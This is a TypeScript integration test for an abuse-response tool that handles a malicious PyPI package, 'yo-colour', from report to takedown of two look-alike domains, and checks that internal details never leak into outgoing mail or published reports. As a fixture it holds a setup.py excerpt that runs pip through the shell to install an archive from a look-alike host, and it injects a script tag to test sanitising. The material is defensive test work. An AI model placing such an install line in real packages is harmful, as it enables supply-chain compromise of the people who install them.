import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createMailer } from '../../src/adapters/mail.ts'
import { createResolver } from '../../src/adapters/resolver.ts'
import { createCarrier } from '../../src/incident/carrier.ts'
import { spell, clocksOf } from '../../src/incident/cases/clocks.ts'
import { Clockwork } from '../../src/incident/clockwork.ts'
import { factsFor, relatedTo } from '../../src/incident/domains/for-cases.ts'
import { Domains } from '../../src/incident/domains/domains.ts'
import { bench } from '../../src/incident/domains/testing.ts'
import type { Bench } from '../../src/incident/domains/testing.ts'
import { Incidents } from '../../src/incident/face.ts'
import { Response } from '../../src/incident/response.ts'
import type { Observer } from '../../src/incident/reports/reports.ts'
import type { Ticket } from '../../src/incident/tickets/rows.ts'
import type { Notice } from '../../src/ports/notifier.ts'
import { startDns } from '../fakes/dns.ts'
import type { FakeDns } from '../fakes/dns.ts'
import { startHttp } from '../fakes/http.ts'
import type { FakeServer } from '../fakes/http.ts'
import { startRdap } from '../fakes/rdap.ts'
import type { FakeRdap } from '../fakes/rdap.ts'
import { startSmtp } from '../fakes/smtp.ts'
import type { FakeSmtp } from '../fakes/smtp.ts'

/**
 * Case A from the upload to the second domain's end, on names of the same shapes, with registrars, DNS, a mail server and a host's form on loopback
 * that behave as the public report tells: six days' silence, and the holder is told.
 */
const [FIRST, SECOND] = ['pypihosting.example', 'pythanhosting.example'] as const
/** What must reach nobody who may be the suspect. */
const PLANTED = ['Nora Quist', 'nora@quist-lab.example', 'ci-runner-9', 'build-7.acme.example', '10.20.30.40', `ghp_${'Z'.repeat(36)}`, 'Example Bank', 'analyst.jane']

let around: Bench
let rdap: FakeRdap
let dns: FakeDns
let smtp: FakeSmtp
let form: FakeServer
let domains: Domains
let response: Response
let incidents: Incidents
let clockwork: Clockwork
const held: string[] = []
const notices: Notice[] = []
beforeAll(async () => {
  [rdap, dns, smtp] = await Promise.all([startRdap(), startDns(), startSmtp()])
  form = await startHttp((_request, answer) => void answer.writeHead(200).end('Thank you. We do not follow up on reports.'))
  around = await bench(rdap.url)
  const { database, clock } = around
  domains = new Domains({
    ...around, resolver: createResolver({ servers: [dns.server] }), notify: () => Promise.resolve(),
    sources: { npm: { url: null, why: 'off' }, pypi: { url: null, why: 'off' }, go: { url: null, why: 'off' } },
    settings: { protect: ['files.pythonhosting.example'], allow: [], rdap: rdap.lists, recheck: 6 * 3_600_000, certificates: null, passiveDns: null },
  })
  const sender = { organisation: 'Acme', contact: 'abuse-desk@acme.example', domain: 'acme.example' }
  response = new Response({
    database, clock, ledger: { append: async () => undefined }, evidence: null as never, downloads: () => Promise.resolve(null),
    order: async ({ action, name, because }) => void held.push(`${action} ${name}: ${because}`),
    carry: createCarrier({ sender, outbox: '/nonexistent', mailer: createMailer({ host: '127.0.0.1', port: smtp.port, security: 'none', login: null, ca: null, from: 'gate@acme.example' }) }),
    facts: (type, value) => factsFor(domains, type, value), related: (value) => relatedTo(domains, value),
    settings: { sender, ownDomains: ['acme.example'], rule: () => ({ youngerThan: 24 * 3_600_000, observers: 2, trusted: 1 }) },
  })
  incidents = new Incidents({ response, clock, publisher: { id: 'acme.example', name: 'Acme' } })
  clockwork = new Clockwork({ database, clock, response, domains, content: null, notify: (notice) => Promise.resolve(void notices.push(notice)), log: () => undefined })
})
afterAll(async () => {
  await around.close()
  await Promise.all([dns.close(), rdap.close(), smtp.close(), form.close()])
})

const at = (moment: string): void => { around.clock.at = new Date(moment) }
/** Lets the clock run, with what happens by it every three hours. */
async function until(moment: string): Promise<void> {
  const end = new Date(moment).getTime()
  while (around.clock.at.getTime() < end) {
    around.clock.at = new Date(Math.min(around.clock.at.getTime() + 3 * 3_600_000, end))
    await clockwork.tick()
  }
}
const registered = (name: string, registrar: string): void => {
  rdap.domains.set(name, { registrar, registrant: 'A. Nobody', abuse: `abuse@${registrar.toLowerCase().replace(' ', '-')}.example`, nameServers: ['ns1.dns.example'], events: { registration: '2024-03-02T11:00:00Z' } })
  dns.names.set(name, { NS: ['ns1.dns.example'], ...(name === FIRST ? {} : { A: ['198.51.100.7'] }) })
}
const ended = (name: string): void => {
  rdap.domains.set(name, { ...rdap.domains.get(name), nameServers: [], statuses: ['client hold'] })
  dns.names.delete(name)
}
const mail = (from: string, moment: string, text: string, headers = ''): Buffer => Buffer.from(`From: ${from}\r\nDate: ${new Date(moment).toUTCString()}\r\nSubject: Re: abuse\r\n${headers}\r\n${text}\r\n`)
const report = (observer: Observer) => response.report({
  kind: 'malware', ecosystem: 'pypi', name: 'yo-colour', versions: ['0.4.6'], link: 'https://inspector.example/setup.py#line.12', evidence: [], observer,
  summary: 'setup.py asks pip, through the shell, to install an archive from a look-alike of the file host',
})
const sentBy = async (ticket: Ticket): Promise<void> => {
  const { digest } = await response.write(ticket.id, 'analyst.jane')
  await response.tickets.approve(ticket.id, { digest, by: 'analyst.jane' })
  await response.tickets.send(ticket.id, { by: 'analyst.jane' })
}

describe('case A', () => {
  let id: string
  const tickets: Record<string, Ticket> = {}

  it('is opened by the second of two people who report it, and holds the package', async () => {
    const { query } = around.database
    const evil = `os.system("pip install https://files.${FIRST}/x.tar.gz")  # seen on build-7.acme.example, 10.20.30.40, ghp_${'Z'.repeat(36)}`
    await query.insertInto('artifacts').values({
      ecosystem: 'pypi', name: 'yo-colour', file: 'yo-colour-0.4.6.tar.gz', version: '0.4.6', digest: `sha256:${'ab'.repeat(32)}`, size: 1, upstream: 'https://files.example/', source: 'public',
      published_at: Date.parse('2024-03-05T01:09:00Z'), first_seen_at: Date.parse('2024-03-05T02:00:00Z'), hashes: '{}', purged: 0,
    }).execute()
    await query.insertInto('verdicts').values({
      ecosystem: 'pypi', name: 'yo-colour', file: 'yo-colour-0.4.6.tar.gz', version: '0.4.6', digest: `sha256:${'ab'.repeat(32)}`, level: 'suspicious', score: 60, missing: '[]', runs: '[]', rules: 'r', learned: null, profile: null, difference: null,
      repository: null, sketch: null, judged_at: Date.parse('2024-03-05T02:00:01Z'), elapsed_ms: 1,
      findings: JSON.stringify([{ detector: 'runs-unseen-install', behaviour: 'run-at-install', severity: 'critical', confidence: 1, title: 'asks pip, through the shell, to install an archive from elsewhere', evidence: [{ file: 'setup.py', lines: [12, 12], excerpt: evil, says: 'a second install' }] }]),
      indicators: JSON.stringify([{ type: 'url', value: `https://files.${FIRST}/x.tar.gz`, file: 'setup.py', line: 12 }, { type: 'domain', value: FIRST, file: 'setup.py', line: 12 }]),
    } as never).execute()
    dns.names.set('example', { NS: ['a.registry.example'] })
    registered(FIRST, 'Names Ltd')
    at('2024-03-05T06:17:00Z')
    expect(await report({ id: 'Nora Quist', isMachine: false, contact: 'nora@quist-lab.example' })).toMatchObject({ quarantine: null, case: null })
    await response.reports.trust('Nora Quist', true)
    at('2024-03-05T23:40:00Z')
    const second = await report({ id: 'an independent researcher', isMachine: false, contact: null })
    expect(second.quarantine).toContain('somebody trusted within 24 h')
    expect(held).toEqual([`hold yo-colour: ${second.quarantine}`])
    id = second.case as string
    expect(await response.cases.show(id)).toMatchObject({ cause: 'report', packages: [{ name: 'yo-colour', version: '0.4.6' }], observables: [{ type: 'url', role: 'second-stage' }, { type: 'domain', value: FIRST, role: 'second-stage' }] })
  })

  it('knows whom to write to, and writes without betraying anybody', async () => {
    at('2024-03-06T17:16:00Z')
    await response.cases.tell(id, { source: 'the registry', by: 'sluice', says: 'removed from the registry', fact: { kind: 'milestone', of: 'removed', subject: null } })
    await response.cases.tell(id, { source: 'analyst.jane', by: 'analyst.jane', says: 'delivered to Example Bank by ci-runner-9', fact: { kind: 'note' } })
    at('2024-03-06T17:20:00Z')
    const drafted = await response.draft(id, { type: 'domain', value: FIRST }, 'analyst.jane')
    expect(drafted.tickets.map(({ party, channel }) => [party.kind, party.name, party.contact, channel])).toEqual([['registrar', 'Names Ltd', 'abuse@names-ltd.example', 'mail']])
    tickets['first'] = drafted.tickets[0] as Ticket
    const { digest, removed } = await response.write(tickets['first'].id, 'analyst.jane')
    expect(removed.map(({ is }) => is).sort()).toEqual(['a host or mailbox of ours', 'a token', 'an internal address'])
    await expect(response.tickets.send(tickets['first'].id, { by: 'analyst.jane' })).rejects.toMatchObject({ code: 'usage' })
    await response.tickets.approve(tickets['first'].id, { digest, by: 'analyst.jane' })
    await response.tickets.send(tickets['first'].id, { by: 'analyst.jane' })
    expect(smtp.said).toContain('RCPT TO:<abuse@names-ltd.example>')
    expect(smtp.taken).toHaveLength(1)
  })

  it('waits six days, is told that the holder was told, and sees the first domain go', async () => {
    await until('2024-03-12T08:00:00Z')
    expect(notices.map(({ title }) => title)).toEqual([expect.stringContaining('has not answered: write again'), expect.stringContaining('did not end it')])
    const first = tickets['first'] as Ticket
    const answer = await incidents.reply(first.id, { mail: mail('abuse@names-ltd.example', '2024-03-12T08:00:00Z', 'We have forwarded your report to our customer.'), by: 'analyst.jane' })
    expect(answer).toMatchObject({ state: 'forwarded', taken: 'forward' })
    await until('2024-03-18T00:00:00Z')
    ended(FIRST)
    await until('2024-03-19T00:00:00Z')
    expect(await response.tickets.show(first.id)).toMatchObject({ state: 'verified' })
  })

  it('finds the second domain of the same holder, tells the host by its form, and the registrar', async () => {
    at('2024-03-25T16:00:00Z')
    registered(SECOND, 'Other Names')
    rdap.networks.set('198.51.100.7', { objectClassName: 'ip network', startAddress: '198.51.100.0', endAddress: '198.51.100.255', name: 'CLOUDFLARE-EXAMPLE', entities: [{ roles: ['abuse'], vcardArray: ['vcard', [['email', {}, 'text', 'abuse@cdn.example']]] }] })
    await domains.look(SECOND)
    expect((await domains.siblings(SECOND))[0]?.target).toBe(`domain:${FIRST}`)
    await response.cases.tell(id, { source: 'domains', by: 'sluice', says: 'a second domain of the same registrant', fact: { kind: 'observable', type: 'domain', value: SECOND, role: 'look-alike', tlp: 'amber' } })
    const drafted = await response.draft(id, { type: 'domain', value: SECOND }, 'analyst.jane')
    expect(drafted.tickets.map(({ party, form: which }) => [party.kind, which])).toEqual([['registrar', null], ['cdn', 'cloudflare']])
    const [registrar, cdn] = drafted.tickets as [Ticket, Ticket]
    const { digest, filled } = await response.write(cdn.id, 'analyst.jane')
    expect(filled?.beware.join()).toContain('owner of the site')
    await response.tickets.approve(cdn.id, { digest, by: 'analyst.jane' })
    at('2024-03-25T17:05:00Z')
    const posted = await fetch(form.url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(filled?.json) })
    await response.tickets.markSent(cdn.id, { receipt: await posted.text(), by: 'analyst.jane' })
    at('2024-03-25T17:06:00Z')
    expect(await incidents.reply(cdn.id, { mail: mail('abuse@cdn.example', '2024-03-25T17:06:00Z', 'We received your report. We do not follow up.', 'Auto-Submitted: auto-replied\r\n'), by: 'analyst.jane' })).toMatchObject({ state: 'acknowledged' })
    at('2024-03-25T18:30:00Z')
    await sentBy(registrar)
    await until('2024-03-29T20:47:00Z')
    await incidents.reply(registrar.id, { mail: mail('abuse@other-names.example', '2024-03-29T20:47:00Z', 'The registrant has been informed of your complaint.'), by: 'analyst.jane' })
    await until('2024-04-04T00:00:00Z')
    ended(SECOND)
    await until('2024-04-05T00:00:00Z')
    expect((await response.tickets.list({ case: id })).map(({ state }) => state)).toEqual(['verified', 'verified', 'verified'])
  })

  it('has a timeline that equals the table, with clocks right to the minute', async () => {
    const { timeline } = await response.cases.show(id)
    const steps = timeline.flatMap(({ at: when, fact }) => {
      const moment = when.toISOString().slice(0, 16)
      if (fact.kind === 'milestone') return [`${moment} ${fact.of}${fact.subject === null ? '' : ` ${fact.subject}`}`]
      return fact.kind === 'ticket' && !['draft', 'approved', 'verified'].includes(fact.state) ? [`${moment} ${fact.party} ${fact.state}`] : []
    })
    expect(steps).toEqual([
      '2024-03-05T01:09 uploaded', '2024-03-05T06:17 reported', '2024-03-05T23:40 reported', '2024-03-06T17:16 removed', '2024-03-06T17:20 Names Ltd sent', '2024-03-12T08:00 Names Ltd forwarded',
      expect.stringMatching(/^2024-03-18T0\d:\d\d down pypihosting\.example$/), '2024-03-25T17:05 CLOUDFLARE-EXAMPLE sent', '2024-03-25T17:06 CLOUDFLARE-EXAMPLE acknowledged', '2024-03-25T18:30 Other Names sent',
      '2024-03-29T20:47 Other Names forwarded', expect.stringMatching(/^2024-04-04T0\d:\d\d down pythanhosting\.example$/),
    ])
    const clocks = clocksOf(timeline, around.clock.at).map((one) => `${one.step}${one.subject === null ? '' : ` [${one.subject}]`}: ${spell(one)}`)
    expect(clocks).toEqual(expect.arrayContaining([
      'upload → first report: 5 h 8 min', 'first report → removal: 1 day 10 h 59 min', 'upload → removal: 1 day 16 h 7 min', 'written to → first answer [Names Ltd]: 5 days 14 h 40 min',
      'written to → first answer [Other Names]: 4 days 2 h 17 min', expect.stringMatching(/^first complaint → down \[pypihosting\.example\]: 11 days/), expect.stringMatching(/^first complaint → down \[pythanhosting\.example\]: 9 days/),
    ]))
  })

  it('betrayed nobody in any letter, form or report', async () => {
    const decoded = (text: string): string => text.replace(/=\n/g, '') + [...text.matchAll(/(?:[A-Za-z0-9+/]{60,}\n?)+={0,2}/g)].map(([part]) => Buffer.from(part, 'base64').toString('utf8')).join('\n')
    const outside = [...smtp.taken.map((text) => decoded(decoded(text))), ...form.requests.map(({ body }) => body.toString())].join('\n')
    expect(outside).toContain('pypihosting')
    for (const word of [...PLANTED, id]) expect(outside.toLowerCase(), word).not.toContain(word.toLowerCase())
    // The first letter was about the first domain: nothing in it told of the second.
    expect(decoded(decoded(smtp.taken[0] ?? ''))).not.toContain('pythan')
  })

  it('ends as a report that can be read, and records that can be used', async () => {
    await expect(incidents.publish(id, { tlp: 'clear' })).rejects.toMatchObject({ code: 'usage' })
    await response.cases.tell(id, { source: 'x', by: 'analyst.jane', says: 'it may go out', fact: { kind: 'set', tlp: 'clear' } })
    for (const value of [FIRST, SECOND]) await response.cases.tell(id, { source: 'x', by: 'analyst.jane', says: 'public', fact: { kind: 'observable', type: 'domain', value, role: value === FIRST ? 'second-stage' : 'look-alike', tlp: 'clear' } })
    await response.cases.tell(id, { source: 'x', by: 'analyst.jane', says: 'without impact', fact: { kind: 'closed', outcome: 'without-impact' } })
    const files = await incidents.publish(id, { tlp: 'clear' })
    const [text = '', page = ''] = files.map((one) => one.text)
    for (const part of ['It was uploaded on 2024-03-05 01:09 UTC', '1 day 16 h 7 min', 'pypihosting\\[.\\]example', 'passed the complaint on to the holder', 'What the code does', 'hxxps://files[.]pypihosting[.]example']) expect(text).toContain(part)
    for (const word of PLANTED) expect(`${text}${page}`.toLowerCase(), word).not.toContain(word.toLowerCase())
    expect(text.split(/\s+/).length).toBeLessThan(700)
    expect(page).toContain('<svg')
    expect(files.map(({ name }) => name.replace(/[0-9a-f]{24}/, 'x'))).toEqual(['report.md', 'report.html', 'osv/malicious/pypi/yo-colour/MAL-0000-sluice-x.json', 'stix.json', 'misp.json', 'indicators.csv'])
    const edited = await incidents.publish(id, { tlp: 'clear', edited: `${text}\n\n<script>alert(1)</script>\n\nA sentence of ours.` })
    expect(edited[1]?.text).toContain('A sentence of ours.')
    expect(edited[1]?.text).not.toContain('<script>')
    const receipts = await incidents.receipts(id)
    expect(receipts.find(({ name }) => name === 'list.csv')?.text.split('\r\n').filter((line) => line !== '')).toHaveLength(7)
  })
})
